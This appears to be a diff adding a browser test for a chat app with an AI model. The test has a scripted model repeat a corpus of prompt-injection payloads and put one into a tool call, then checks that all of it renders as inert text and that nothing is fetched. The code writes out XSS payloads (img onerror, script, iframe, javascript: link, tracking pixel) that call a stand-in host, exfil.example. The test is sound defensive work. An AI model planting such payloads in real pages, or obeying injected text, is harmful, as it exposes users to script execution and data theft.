@@ -741,3 +741,94 @@ test("the archive: search from the sidebar and the full view, open a hit at its 
     script.stop();
   }
 });
+
+test("every injection payload, said by an obedient model or put in a call it asks for, renders as inert text: no markup, no image, nothing fetched", async () => {
+  // The corpus of the injection table (fixtures/injection), as a model that obeys it would
+  // put it on the screen: every payload in its reply, and one in the arguments of a call
+  // the person is asked to approve. Two more aim straight at the page's DOM.
+  const corpus = JSON.parse(readFileSync(join(repo, "fixtures/injection/payloads.json"), "utf8")).payloads.map((p) => p.text);
+  const aimed = [
+    '<img src="https://exfil.example/x.png" onerror="window.__pwned=1">',
+    '<script>window.__pwned=1</script><iframe src="https://exfil.example/frame"></iframe>',
+    "[click me](javascript:window.__pwned=1) ![pixel](https://exfil.example/pixel.gif?q=secret)",
+  ];
+  const payloads = [...corpus, ...aimed];
+  const sse = (event, data) => ({ event, data });
+  const start = (id) => sse("message_start", { type: "message_start", message: { id, type: "message", role: "assistant", content: [], usage: { input_tokens: 10, output_tokens: 1 } } });
+  const stop = (reason) => [sse("message_delta", { type: "message_delta", delta: { stop_reason: reason }, usage: { output_tokens: 5 } }), sse("message_stop", { type: "message_stop" })];
+  const spoof = payloads.find((p) => p.includes("<img")) ?? aimed[0];
+  const script = {
+    description: "an obedient model repeating every injection payload",
+    turns: [
+      { sse: [
+        start("msg_inj1"),
+        sse("content_block_start", { type: "content_block_start", index: 0, content_block: { type: "text", text: "" } }),
+        sse("content_block_delta", { type: "content_block_delta", index: 0, delta: { type: "text_delta", text: `INJECTED-REPLY\n\n${payloads.join("\n\n")}` } }),
+        sse("content_block_stop", { type: "content_block_stop", index: 0 }),
+        sse("content_block_start", { type: "content_block_start", index: 1, content_block: { type: "tool_use", id: "toolu_inj1", name: "project_setTitle", input: {} } }),
+        sse("content_block_delta", { type: "content_block_delta", index: 1, delta: { type: "input_json_delta", partial_json: JSON.stringify({ title: spoof }) } }),
+        sse("content_block_stop", { type: "content_block_stop", index: 1 }),
+        ...stop("tool_use"),
+      ] },
+      { sse: [
+        start("msg_inj2"),
+        sse("content_block_start", { type: "content_block_start", index: 0, content_block: { type: "text", text: "" } }),
+        sse("content_block_delta", { type: "content_block_delta", index: 0, delta: { type: "text_delta", text: "Understood, left as it is." } }),
+        sse("content_block_stop", { type: "content_block_stop", index: 0 }),
+        ...stop("end_turn"),
+      ] },
+    ],
+  };
+  const file = join(dir, "injection-script.json");
+  writeFileSync(file, JSON.stringify(script));
+  const provider = await scriptServer(file);
+  try {
+    const page = await fresh(server.url);
+    const fetched = [];
+    page.on("request", (r) => fetched.push(r.url()));
+    await useProvider(page, provider.url, "claude-injection");
+    await page.click('[data-testid="chat-new"]');
+    await page.fill('[data-testid="chat-input"]', "Read the device notes.");
+    await page.click('[data-testid="chat-send"]');
+    await waitStatus(page, "toolu_inj1", "awaiting");
+    const reply = page.locator('[data-testid="chat-assistant"]', { hasText: "INJECTED-REPLY" });
+    await reply.waitFor({ timeout: 15000 });
+    const messages = page.locator('[data-testid="chat-messages"]');
+    // Nothing active anywhere in the conversation: no element a payload could bring.
+    const active = await messages.evaluate((root) => {
+      const bad = [...root.querySelectorAll("img, iframe, script, object, embed, form, svg, video, audio, style, link, meta, base")]
+        .map((e) => e.outerHTML.slice(0, 120));
+      const handlers = [...root.querySelectorAll("*")].filter((e) => [...e.attributes].some((a) => a.name.startsWith("on"))).map((e) => e.outerHTML.slice(0, 120));
+      const links = [...root.querySelectorAll("a")].map((a) => ({ href: a.getAttribute("href") ?? "", rel: a.getAttribute("rel") ?? "", target: a.getAttribute("target") ?? "" }));
+      return { bad, handlers, links };
+    });
+    assert.deepEqual(active.bad, [], "active elements in the conversation");
+    assert.deepEqual(active.handlers, [], "event handlers in the conversation");
+    for (const link of active.links) {
+      assert.match(link.href, /^https?:\/\//, `a link to ${link.href}`);
+      assert.equal(link.rel, "noopener noreferrer");
+      assert.equal(link.target, "_blank");
+    }
+    assert.equal(await page.evaluate(() => window.__pwned), undefined, "a payload ran in the page");
+    // Each payload's words are there, as text.
+    const text = await reply.innerText();
+    for (const p of corpus) {
+      const words = p.replace(/[^\p{L}\p{N}]+/gu, " ").trim().split(" ").filter((w) => w.length > 3).slice(0, 2);
+      for (const w of words) assert.ok(text.includes(w), `"${w}" of a payload is not shown: ${p}`);
+    }
+    // The call the person is asked about shows its argument as text, not markup.
+    const tool = card(page, "toolu_inj1");
+    assert.equal(await tool.locator("img, iframe, script").count(), 0);
+    assert.ok((await tool.innerText()).includes("<img"), "the argument reads as the text it is");
+    await tool.locator('[data-testid="tool-deny"]').click();
+    await waitStatus(page, "toolu_inj1", "denied");
+    await page.locator('[data-testid="chat-assistant"]', { hasText: "left as it is" }).waitFor({ timeout: 15000 });
+    assert.notEqual((await command(page, "project.get")).title, spoof, "the denied call did nothing");
+    // Nothing a payload names was fetched: no image, no frame, no beacon.
+    assert.deepEqual(fetched.filter((u) => !u.startsWith(server.url.split("/?")[0])), [], "requests off the app");
+    await page.screenshot({ path: join(artifacts, "browser-assistant-injection-light-en.png") });
+    await page.close();
+  } finally {
+    provider.stop();
+  }
+});
